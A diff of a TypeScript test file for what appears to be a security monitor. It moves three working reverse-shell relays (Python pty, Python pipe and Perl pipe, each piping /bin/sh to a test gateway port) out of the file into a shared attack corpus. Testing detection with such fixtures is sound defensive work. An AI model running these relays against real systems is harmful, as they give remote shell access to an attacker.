@@ -4,6 +4,7 @@ import type { AuditRecord } from '../../../../src/security/audit/record.js';
 import { GATEWAY, TEST_PREFIX } from '../../../helpers/testbed.js';
 import type { MonitorBed } from '../../../helpers/monitor-bed.js';
 import { attackerPort, monitorBedForFile } from '../../../helpers/monitor-bed.js';
+import { PERL_PIPE_RELAY, PTY_RELAY, PY_PIPE_RELAY } from '../attack-corpus-table.js';
 
 /**
  * Reverse shells that relay through pipes, fifos and ptys, and bind shells, performed in real
@@ -15,47 +16,7 @@ let bed: MonitorBed;
 const PORT = attackerPort();
 monitorBedForFile(PORT, (b) => (bed = b));
 
-/** What pty.spawn does (the image's python3-minimal has no pty module): sh on a pty, relayed. */
-const PTY_RELAY = `import os, select, socket
-s = socket.create_connection(("${GATEWAY}", ${PORT}))
-master, slave = os.openpty()
-if os.fork() == 0:
-    os.setsid()
-    for f in (0, 1, 2):
-        os.dup2(slave, f)
-    os.execv("/bin/sh", ["sh"])
-os.close(slave)
-while True:
-    ready, _, _ = select.select([s, master], [], [])
-    if s in ready:
-        os.write(master, s.recv(1024))
-    if master in ready:
-        s.send(os.read(master, 1024))
-`;
-
-const PIPE_RELAY = `import socket, subprocess, threading
-s = socket.create_connection(("${GATEWAY}", ${PORT}))
-p = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
-def pump():
-    for chunk in iter(lambda: p.stdout.read1(1024), b""):
-        s.send(chunk)
-threading.Thread(target=pump, daemon=True).start()
-for chunk in iter(lambda: s.recv(1024), b""):
-    p.stdin.write(chunk)
-    p.stdin.flush()
-`;
-
-const PERL_RELAY = `use IO::Socket::INET;
-my $s = IO::Socket::INET->new(PeerAddr => "${GATEWAY}:${PORT}") or die;
-pipe(my $in_r, my $in_w); pipe(my $out_r, my $out_w);
-if (!fork) {
-  open(STDIN, "<&", $in_r); open(STDOUT, ">&", $out_w); open(STDERR, ">&", $out_w);
-  close $in_w; close $out_r; exec "/bin/sh";
-}
-close $in_r; close $out_w;
-if (!fork) { while (sysread($s, my $b, 1024)) { syswrite($in_w, $b) } exit }
-while (sysread($out_r, my $b, 1024)) { syswrite($s, $b) }
-`;
+const TARGET = { gateway: GATEWAY, port: PORT, sibling: '' };
 
 /** A dev server: listens on every interface, answers, runs no shell. */
 const DEV_SERVER = `import socket
@@ -108,21 +69,21 @@ describe('reverse shells relayed to a shell', () => {
     [
       'python pty relay',
       'py-pty',
-      { '/tmp/relay.py': PTY_RELAY },
+      { '/tmp/relay.py': PTY_RELAY(TARGET) },
       ['python3', '/tmp/relay.py'],
       'pty-relay',
     ],
     [
       'python pipe relay',
       'py-pipe',
-      { '/tmp/relay.py': PIPE_RELAY },
+      { '/tmp/relay.py': PY_PIPE_RELAY(TARGET) },
       ['python3', '/tmp/relay.py'],
       'pipe-relay',
     ],
     [
       'perl pipe relay',
       'pl-pipe',
-      { '/tmp/relay.pl': PERL_RELAY },
+      { '/tmp/relay.pl': PERL_PIPE_RELAY(TARGET) },
       ['perl', '/tmp/relay.pl'],
       'pipe-relay',
     ],
